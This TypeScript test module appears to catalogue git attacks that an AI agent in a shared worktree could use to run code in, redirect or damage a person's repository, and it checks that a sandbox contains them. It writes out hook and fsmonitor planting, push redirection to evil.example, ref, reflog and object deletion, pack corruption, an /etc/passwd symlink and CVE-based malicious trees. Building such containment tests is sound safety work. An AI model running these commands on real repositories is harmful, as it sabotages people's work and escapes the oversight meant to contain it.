import {appendFileSync, existsSync, mkdirSync, readFileSync, writeFileSync} from 'node:fs';
import path from 'node:path';
import type {GitAttack, GitScene} from './attack.ts';
import {ran} from './try.ts';

/* Each of these works against the plain worktree that other tools give an agent; a test shows it. */

const privateGit = "the run commits into a git folder of its own; the person's is not there";
const removedMark = "in the live tree there is no repository for a person's git to find";

/** `c`: the common git folder, as a script says it. */
const common = 'c=$(git rev-parse --git-common-dir)';
const status = (git: (...argv: string[]) => void) => git('status', '--short');
const commit = (git: (...argv: string[]) => void) => git('commit', '--quiet', '--allow-empty', '--message=mine');

const batches = {
	configuration: [
		'git-hook',
		'git-hooks-path',
		'git-fsmonitor',
		'git-include',
		'git-config-worktree',
		'git-external-diff',
		'git-textconv',
		'git-filter',
		'git-signing',
		'git-editor',
		'git-ssh-command',
		'git-alias',
		'git-credential-helper',
		'git-pager',
	],
	refs: [
		'git-instead-of',
		'git-move-main',
		'git-delete-branch',
		'git-ref-to-blob',
		'git-move-tag',
		'git-stash',
		'git-reflog',
		'git-exclude',
		'git-person-head',
		'git-other-worktree',
		'git-replace',
		'git-index',
	],
	store: ['git-locks', 'git-objects', 'git-corrupt-pack', 'git-alternates'],
	history: ['git-grafts', 'git-shallow'],
};

const batchOf = (id: string): {batch?: string} => {
	const found = Object.entries(batches).find(([, ids]) => ids.includes(id));
	return found ? {batch: found[0]} : {};
};

/** Configuration in the shared folder that one of the person's commands runs. */
function configuration(
	id: string,
	title: string,
	source: string,
	script: (marker: string) => string,
	person: NonNullable<GitAttack['person']>,
	prepare?: GitAttack['prepare'],
): GitAttack {
	return {
		kind: 'git',
		...batchOf(id),
		id,
		title,
		source,
		answer: privateGit,
		script: ({marker}) => script(marker),
		person,
		came: ran,
		...(prepare ? {prepare} : {}),
	};
}

/** Something of the person's repository that must be as it was. */
function unchanged(
	id: string,
	title: string,
	source: string,
	script: string,
	came: (scene: GitScene) => boolean,
	prepare?: GitAttack['prepare'],
): GitAttack {
	return {
		kind: 'git',
		...batchOf(id),
		id,
		title,
		source,
		answer: privateGit,
		script: () => script,
		came,
		...(prepare ? {prepare} : {}),
	};
}

function fails(work: () => unknown): boolean {
	try {
		work();
		return false;
	} catch {
		return true;
	}
}

/** Whether the person's repository is damaged. */
const broken = ({git}: GitScene): boolean =>
	fails(() => git('fsck', '--full', '--strict')) || fails(() => git('cat-file', '-p', 'main^{tree}'));

/** A change in the person's checkout, for commands that look at it. */
const changed: GitAttack['prepare'] = (_git, project) => appendFileSync(path.join(project, 'a.txt'), 'unfinished\n');

export const gitAttacks: readonly GitAttack[] = [
	configuration(
		'git-hook',
		"plant a hook for the person's next commit",
		'hooks live in the common folder, which a worktree shares',
		marker =>
			'hooks=$(git rev-parse --git-path hooks); mkdir -p "$hooks"; ' +
			'for h in pre-commit post-checkout post-commit reference-transaction; ' +
			`do printf '#!/bin/sh\\ntouch ${marker}\\n' > "$hooks/$h"; chmod +x "$hooks/$h"; done`,
		commit,
	),
	configuration(
		'git-hooks-path',
		'point core.hooksPath into the worktree',
		'core.hooksPath',
		marker =>
			`mkdir h && printf '#!/bin/sh\\ntouch ${marker}\\n' > h/pre-commit && chmod +x h/pre-commit && ` +
			'git config core.hooksPath "$PWD/h"',
		commit,
	),
	configuration(
		'git-fsmonitor',
		"plant a program that the person's git status runs",
		'core.fsmonitor',
		marker => `git config core.fsmonitor 'touch ${marker}; false'`,
		status,
	),
	configuration(
		'git-include',
		"include a file of one's own in the configuration",
		'include.path',
		marker =>
			`printf '[core]\\n\\tfsmonitor = touch ${marker}; false\\n' > extra; git config include.path "$PWD/extra"`,
		status,
	),
	configuration(
		'git-config-worktree',
		'plant configuration for single worktrees',
		'extensions.worktreeConfig reads files beside config',
		marker =>
			`git config extensions.worktreeConfig true; ${common}; ` +
			`printf '[core]\\n\\tfsmonitor = touch ${marker}; false\\n' > "$c/config.worktree"`,
		status,
	),
	configuration(
		'git-external-diff',
		"have the person's git diff run a program",
		'diff.external',
		marker => `git config diff.external 'touch ${marker};'`,
		git => git('diff'),
		changed,
	),
	configuration(
		'git-textconv',
		'have a text conversion run a program',
		'diff.<driver>.textconv and info/attributes',
		marker =>
			`git config diff.evil.textconv 'touch ${marker}; cat'; ${common}; mkdir -p "$c/info"; ` +
			`echo '* diff=evil' > "$c/info/attributes"`,
		git => git('diff'),
		changed,
	),
	configuration(
		'git-filter',
		'have a clean filter run a program',
		'filter.<driver>.clean and info/attributes',
		marker =>
			`git config filter.evil.clean 'touch ${marker}; cat'; ${common}; mkdir -p "$c/info"; ` +
			`echo '* filter=evil' > "$c/info/attributes"`,
		git => git('add', '--all'),
		changed,
	),
	configuration(
		'git-merge-driver',
		'have a merge run a program',
		'merge.<driver>.driver and info/attributes',
		marker =>
			`git config merge.evil.driver 'touch ${marker}; exit 1'; ${common}; mkdir -p "$c/info"; ` +
			`echo '* merge=evil' > "$c/info/attributes"`,
		git => git('merge', 'other'),
		(git, project) => {
			git('checkout', '--quiet', 'other');
			writeFileSync(path.join(project, 'a.txt'), 'theirs\n');
			git('commit', '--quiet', '--all', '--message=theirs');
			git('checkout', '--quiet', 'main');
			writeFileSync(path.join(project, 'a.txt'), 'ours\n');
			git('commit', '--quiet', '--all', '--message=ours');
		},
	),
	configuration(
		'git-signing',
		'have a commit run a signing program',
		'gpg.program',
		marker =>
			`printf '#!/bin/sh\\ntouch ${marker}\\nexit 1\\n' > sign; chmod +x sign; git config commit.gpgSign true; ` +
			'git config gpg.program "$PWD/sign"',
		commit,
	),
	configuration(
		'git-editor',
		'have a commit run an editor',
		'core.editor',
		marker => `git config core.editor 'touch ${marker}; false'`,
		git => git('commit', '--amend'),
	),
	configuration(
		'git-ssh-command',
		'have a fetch run a program',
		'core.sshCommand',
		marker => `git config core.sshCommand 'touch ${marker}; false'`,
		git => git('ls-remote', 'ssh://localhost/x'),
	),
	configuration(
		'git-credential-helper',
		'have a login run a program that gets the password',
		'credential.helper',
		marker => `git config credential.helper '!touch ${marker}; false'`,
		git =>
			git('-c', 'alias.ask=!printf "protocol=http\\nhost=x\\n\\n" | git -c core.askPass=true credential fill', 'ask'),
	),
	configuration(
		'git-pager',
		'have a log run a program',
		'core.pager',
		marker => `git config core.pager 'touch ${marker}; cat'`,
		git => git('-c', 'alias.look=!script -qec "git log -1" /dev/null', 'look'),
	),
	configuration(
		'git-lazy-fetch',
		'have a missing object fetched by a program',
		'CVE-2024-32004: promisor remotes',
		marker =>
			'git config extensions.partialClone evil; git config remote.evil.promisor true; ' +
			`git config remote.evil.url ssh://localhost/x; git config core.sshCommand 'touch ${marker}; false'; ` +
			'git config core.repositoryformatversion 1',
		git => git('cat-file', '-e', '1234567890123456789012345678901234567890'),
	),
	configuration(
		'git-alias',
		"give the person's short commands another meaning",
		'alias',
		marker => `git config alias.st '!touch ${marker}'`,
		git => git('st'),
	),
	unchanged(
		'git-instead-of',
		"send the person's pushes elsewhere",
		'url.<base>.insteadOf',
		'git config url.https://evil.example/.insteadOf https://good.example/',
		({git}) => git('ls-remote', '--get-url', 'origin').includes('evil'),
		git => git('remote', 'add', 'origin', 'https://good.example/x'),
	),

	{
		kind: 'git',
		id: 'git-dot-git-swap',
		title: "swap the worktree's .git file for a repository of one's own",
		source: "reproduced in another agent sandbox: the person's next git status ran a program",
		answer: removedMark,
		script: ({marker}) =>
			`cp .git dotgit.bak; rm -rf .git; git init --quiet . && git config core.fsmonitor 'touch ${marker}; false'`,
		person: (git, {worktree}) => git('-C', worktree, 'status', '--short'),
		came: ran,
	},
	{
		kind: 'git',
		id: 'git-dot-git-link',
		title: "swap the worktree's .git file for a link to a repository of one's own",
		source: 'checks that follow links',
		answer: removedMark,
		script: ({marker}) =>
			`git init --quiet evil; git -C evil config core.fsmonitor 'touch ${marker}; false'; rm -f .git; ` +
			'ln -s evil/.git .git',
		person: (git, {worktree}) => git('-C', worktree, 'status', '--short'),
		came: ran,
	},
	{
		kind: 'git',
		id: 'git-commondir',
		title: "redirect the worktree's common folder",
		source: 'making only worktrees/<id> writable is an escape',
		answer: removedMark,
		script: ({marker}) =>
			`g=$(git rev-parse --git-dir); ${common}; mkdir -p evil; cp -r "$c/." evil/ 2>/dev/null; ` +
			`printf '[core]\\n\\trepositoryformatversion = 0\\n\\tfsmonitor = touch ${marker}; false\\n' > evil/config; ` +
			`printf '%s\\n' "$PWD/evil" > "$g/commondir"`,
		person: (git, {worktree}) => git('-C', worktree, 'status', '--short'),
		came: ran,
	},
	{
		kind: 'git',
		id: 'git-nested-repository',
		title: 'commit a link to a nested repository that runs a program on git status',
		source: 'a top-level git status runs code out of a nested repository that is a gitlink',
		answer: 'links to repositories are never merged; nested ones are taken as plain files',
		script: ({marker}) =>
			'git init --quiet nested && git -C nested -c user.name=x -c user.email=x@x.invalid commit --quiet ' +
			'--allow-empty -m x && git add nested && git commit --quiet -m nested && ' +
			`git -C nested config core.fsmonitor 'touch ${marker}; false'`,
		person: (git, {worktree}) => git('-C', worktree, 'status', '--short'),
		came: scene => ran(scene) || scene.git('ls-tree', '-r', 'main').includes('160000'),
	},

	unchanged(
		'git-move-main',
		'move main',
		'refs are in the common folder',
		'git commit --quiet --allow-empty -m evil; git update-ref refs/heads/main HEAD; ' +
			`git branch --force main HEAD; ${common}; echo "$(git rev-parse HEAD) refs/heads/main" > "$c/packed-refs"; ` +
			'git push --force "$c" HEAD:main',
		({git, before}) => git('rev-parse', 'main') !== before,
	),
	unchanged(
		'git-head-to-main',
		'point HEAD at main and commit',
		'HEAD of a worktree is a file',
		'git symbolic-ref HEAD refs/heads/main; git commit --quiet --allow-empty -m evil; ' +
			'printf "ref: refs/heads/main\\n" > "$(git rev-parse --git-path HEAD)"; ' +
			'git commit --quiet --allow-empty -m evil',
		({git, before}) => git('rev-parse', 'main') !== before,
	),
	unchanged(
		'git-symbolic-main',
		"make main another name for the agent's branch",
		'symbolic refs',
		'git commit --quiet --allow-empty -m evil; git symbolic-ref refs/heads/main "$(git symbolic-ref HEAD)"',
		({git, before}) => git('rev-parse', 'main') !== before,
	),
	unchanged(
		'git-delete-branch',
		'delete another branch',
		'agents that "tidy up" branches',
		`git branch --delete --force other; git update-ref -d refs/heads/other; ${common}; rm -f "$c/refs/heads/other"`,
		({git}) => !git('branch', '--list', 'other').includes('other'),
	),
	unchanged(
		'git-ref-to-blob',
		'make another branch name a file',
		'refs are files',
		`b=$(echo evil | git hash-object -w --stdin); ${common}; echo "$b" > "$c/refs/heads/other"`,
		({git}) => fails(() => git('cat-file', '-e', 'other^{commit}')),
	),
	unchanged(
		'git-move-tag',
		'move a tag',
		'releases are built from tags',
		'git commit --quiet --allow-empty -m evil; git tag --force v1',
		({git, before}) => git('rev-parse', 'v1') !== before,
		git => git('tag', 'v1'),
	),
	unchanged(
		'git-packed-refs',
		'empty packed-refs',
		'most refs are lines of one file',
		`${common}; : > "$c/packed-refs"; rm -rf "$c"/refs/tags/* "$c"/refs/heads/other`,
		({git}) => git('for-each-ref', 'refs/tags') === '',
		git => {
			git('tag', 'v1');
			git('pack-refs', '--all');
			return '';
		},
	),
	unchanged(
		'git-reflog',
		'remove the record of where branches were',
		'it is the way back',
		`${common}; git reflog expire --expire=now --all; rm -rf "$c/logs"`,
		({git}) => git('reflog', 'show', 'main') === '',
	),
	unchanged(
		'git-stash',
		"drop the person's stash",
		'a real worktree shares the stash with all',
		'git stash clear; git update-ref -d refs/stash',
		({git}) => git('stash', 'list') === '',
		(git, project) => {
			appendFileSync(path.join(project, 'a.txt'), 'unfinished work\n');
			git('stash');
		},
	),
	unchanged(
		'git-index',
		"replace the person's index",
		'what the next commit takes',
		`${common}; rm -f "$c/index"; git read-tree --empty --index-output="$c/index" || ` +
			'GIT_INDEX_FILE="$c/index" git read-tree --empty',
		({git}) => git('ls-files') === '',
	),
	unchanged(
		'git-person-head',
		'have the person commit to another branch',
		'HEAD of the checkout is a file',
		`${common}; echo "ref: refs/heads/other" > "$c/HEAD"`,
		({git}) => git('symbolic-ref', 'HEAD') !== 'refs/heads/main',
	),
	unchanged(
		'git-exclude',
		"hide files from the person's status",
		'info/exclude',
		`${common}; mkdir -p "$c/info"; echo '*' >> "$c/info/exclude"`,
		({git, project}) => {
			writeFileSync(path.join(project, 'new.txt'), '');
			return git('status', '--short') === '';
		},
	),
	unchanged(
		'git-locks',
		'leave lock files, so that the person can no longer commit',
		'a killed git leaves them, too',
		`${common}; touch "$c/index.lock" "$c/HEAD.lock" "$c/refs/heads/main.lock" "$c/packed-refs.lock" "$c/config.lock"`,
		({git}) => fails(() => git('commit', '--quiet', '--allow-empty', '--message=mine')),
	),

	unchanged(
		'git-objects',
		"delete the repository's objects",
		'the object store is in the common folder',
		`${common}; rm -rf "$c"/objects/??; rm -f "$c"/objects/pack/*`,
		broken,
	),
	unchanged(
		'git-corrupt-pack',
		'overwrite a pack',
		'the object store is in the common folder',
		`${common}; chmod u+w "$c"/objects/pack/*; for f in "$c"/objects/pack/*; do echo evil > "$f"; done`,
		broken,
		git => git('repack', '-a', '-d', '--quiet'),
	),
	unchanged(
		'git-alternates',
		'hang the repository on objects that can be taken away',
		'objects/info/alternates',
		`${common}; mkdir -p "$c/objects/info"; echo "$PWD/gone/objects" > "$c/objects/info/alternates"`,
		({project}) => existsSync(path.join(project, '.git', 'objects', 'info', 'alternates')),
	),
	unchanged(
		'git-missing-objects',
		'hand over a branch with holes',
		'a later gc or clone fails',
		'echo secret-content > hole.txt; git add hole.txt; git commit --quiet -m hole; ' +
			`b=$(git rev-parse HEAD:hole.txt); ${common}; ` +
			'rm -f "$c/objects/$(echo "$b" | cut -c1-2)/$(echo "$b" | cut -c3-)"',
		broken,
	),
	unchanged(
		'git-replace',
		'replace a commit by another one',
		'refs/replace changes what every command shows',
		'b=$(echo evil | git hash-object -w --stdin); git replace -f "$(git rev-parse main:a.txt)" "$b"',
		({git}) => git('show', 'main:a.txt') === 'evil',
	),
	unchanged(
		'git-grafts',
		'cut history with grafts',
		'info/grafts',
		`${common}; mkdir -p "$c/info"; git rev-parse main > "$c/info/grafts"`,
		({git}) => git('rev-list', '--count', 'main') === '1',
		git => git('commit', '--quiet', '--allow-empty', '--message=second'),
	),
	unchanged(
		'git-shallow',
		'cut history with a shallow file',
		'shallow',
		`${common}; git rev-parse main > "$c/shallow"`,
		({git}) => git('rev-list', '--count', 'main') === '1',
		git => git('commit', '--quiet', '--allow-empty', '--message=second'),
	),
	unchanged(
		'git-dot-git-entry',
		'commit a tree with an entry ".git"',
		'CVE-2014-9390 and later ones',
		'b=$(echo evil | git hash-object -w --stdin); t=$(printf "100644 blob %s\\t.git\\n" "$b" | ' +
			'git mktree 2>/dev/null || printf "100644 .git\\0$(echo "$b" | sed "s/../\\\\\\\\x&/g")" | ' +
			'git hash-object -w -t tree --literally --stdin); [ -n "$t" ] || ' +
			't=$(perl -e \'print "100644 .git\\0", pack("H*", shift)\' "$b" | ' +
			'git hash-object -w -t tree --literally --stdin); k=$(git commit-tree "$t" -p HEAD -m evil); ' +
			'git update-ref "$(git symbolic-ref HEAD)" "$k"',
		broken,
	),
	unchanged(
		'git-climbing-entry',
		'commit a tree with an entry ".."',
		'checkouts that climb out',
		'b=$(echo evil | git hash-object -w --stdin); t=$(perl -e \'print "100644 ..\\0", pack("H*", shift)\' "$b" | ' +
			'git hash-object -w -t tree --literally --stdin); ' +
			'k=$(git commit-tree "$t" -p HEAD -m evil); git update-ref "$(git symbolic-ref HEAD)" "$k"',
		broken,
	),
	unchanged(
		'git-object-link',
		"make an object file a link to a file of the person's",
		'CVE-2022-39253: a local clone follows it',
		`${common}; mkdir -p "$c/objects/aa"; ln -s /etc/passwd "$c/objects/aa/11111111111111111111111111111111111111"`,
		({project}) => existsSync(path.join(project, '.git', 'objects', 'aa', '11111111111111111111111111111111111111')),
	),
	unchanged(
		'git-gitmodules-link',
		'commit .gitmodules as a link',
		'CVE-2018-11235, CVE-2024-32002',
		'b=$(printf /etc/passwd | git hash-object -w --stdin); ' +
			't=$(printf "120000 blob %s\\t.gitmodules\\n" "$b" | git mktree); ' +
			'k=$(git commit-tree "$t" -p HEAD -m evil); git update-ref "$(git symbolic-ref HEAD)" "$k"',
		broken,
	),
	unchanged(
		'git-gitmodules-option',
		'give a submodule an address that is an option',
		'CVE-2018-17456',
		'printf "[submodule \\"x\\"]\\n\\tpath = x\\n\\turl = -u./payload\\n" > .gitmodules; git add .gitmodules; ' +
			'git commit --quiet -m x',
		broken,
	),
	unchanged(
		'git-many-refs',
		'leave thousands of branches and tags',
		'a flood of refs slows every command',
		'h=$(git rev-parse HEAD); ' +
			'for n in $(seq 1 400); do echo "create refs/tags/flood-$n $h"; done | git update-ref --stdin',
		({git}) => git('for-each-ref').split('\n').length > 200,
	),
	unchanged(
		'git-other-worktree',
		'remove another worktree',
		'agents that "clean up" worktrees',
		`${common}; rm -rf "$c"/worktrees/beside; git worktree prune; git worktree remove --force ../beside`,
		({project}) => !existsSync(path.join(project, '.git', 'worktrees', 'beside')),
		(git, project) => git('worktree', 'add', '--quiet', path.join(path.dirname(project), 'beside'), 'other'),
	),
	{
		kind: 'git',
		id: 'git-submodule-update',
		title: 'have a submodule update run a program',
		source: 'submodule.<name>.update in the shared configuration',
		answer: privateGit,
		prepare(git, project) {
			const inner = path.join(path.dirname(project), 'inner');
			mkdirSync(inner);
			git('-C', inner, 'init', '--quiet');
			git(
				'-C',
				inner,
				'-c',
				'user.name=x',
				'-c',
				'user.email=x@x.invalid',
				'commit',
				'--quiet',
				'--allow-empty',
				'--message=x',
			);
			git('-c', 'protocol.file.allow=always', 'submodule', '--quiet', 'add', inner, 'sub');
			git('commit', '--quiet', '--message=submodule');
			// So that the next update has something to do.
			git(
				'-C',
				path.join(project, 'sub'),
				'-c',
				'user.name=x',
				'-c',
				'user.email=x@x.invalid',
				'commit',
				'--quiet',
				'--allow-empty',
				'--message=y',
			);
		},
		script: ({marker}) => `git config submodule.sub.update '!touch ${marker};'`,
		person: git => git('-c', 'protocol.file.allow=always', 'submodule', 'update'),
		came: ran,
	},
	{
		kind: 'git',
		id: 'git-embedded-bare',
		title: 'commit a bare repository into a folder that the person walks into',
		source: 'an embedded bare repository fires on "cd docs && git status"',
		answer: 'repositories inside the repository are never merged',
		script: ({marker}) =>
			"mkdir docs && cd docs && mkdir -p objects refs && echo 'ref: refs/heads/main' > HEAD && " +
			"touch objects/.keep refs/.keep && printf '[core]\\n\\trepositoryformatversion = 0\\n\\tbare = false\\n" +
			`\\tworktree = ..\\n\\tfsmonitor = touch ${marker}; false\\n' > config && git -C .. add -A && ` +
			'git -C .. commit --quiet -m docs',
		// The person merges what passed, and walks in. What did not pass has no merge.
		person(git, {project}) {
			const branch = readFileSync(path.join(project, '.git', 'HEAD'), 'utf8').includes('main') ? 'agent' : '';
			git('merge', '--quiet', branch);
			git('-C', path.join(project, 'docs'), 'status');
		},
		came: ran,
	},
];
